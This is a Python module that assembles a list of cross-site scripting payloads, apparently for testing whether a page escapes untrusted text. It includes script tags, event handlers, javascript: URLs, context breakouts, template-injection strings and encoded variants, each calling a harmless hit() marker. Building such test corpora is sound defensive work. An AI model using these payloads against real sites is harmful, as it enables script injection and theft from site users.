"""Texts that would run, or end what they stand in, if they were ever taken for markup.

Each one calls ``hit`` where it runs, so that a page can tell. They are put together from the
ways out of a text and the ways to run something, most of which browsers have known for long.
"""

from __future__ import annotations

from typing import Final

_RUNS: Final = (
    "<script>hit()</script>",
    "<ScRiPt>hit()</ScRiPt>",
    "<script src=//x.invalid/a.js></script>",
    "<img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<video><source onerror=hit()></video>",
    "<marquee onstart=hit()>",
    "<a href=javascript:hit()>甲</a>",
    "<base href=//x.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<form action=javascript:hit()><button>甲</button></form>",
    "<template><img src=x onerror=hit()></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<style>@import 'javascript:hit()';</style>",
    "<link rel=stylesheet href=javascript:hit()>",
)
_ENDS: Final = ("", '">', "'>", "</title>", "</script>", "-->", "</textarea>", "]]>")
_OTHERS: Final = (
    "javascript:hit()",
    " onmouseover=hit() ",
    '" autofocus onfocus=hit() x="',
    "' autofocus onfocus=hit() x='",
    "`-hit()-`",
    "${hit()}",
    "{{constructor.constructor('hit()')()}}",
    "{% raw %}{{7*7}}",
    '"});hit();//',
    '");hit();//',
    "\\u003cimg src=x onerror=hit()\\u003e",
    "&lt;img src=x onerror=hit()&gt;",
    "%3Cimg%20src=x%20onerror=hit()%3E",
    "\u2028hit()\u2029",
    "<\u0000img src=x onerror=hit()>",
    "＜img src=x onerror=hit()＞",
)

PAYLOADS: Final = (*(end + run for run in _RUNS for end in _ENDS), *_OTHERS)
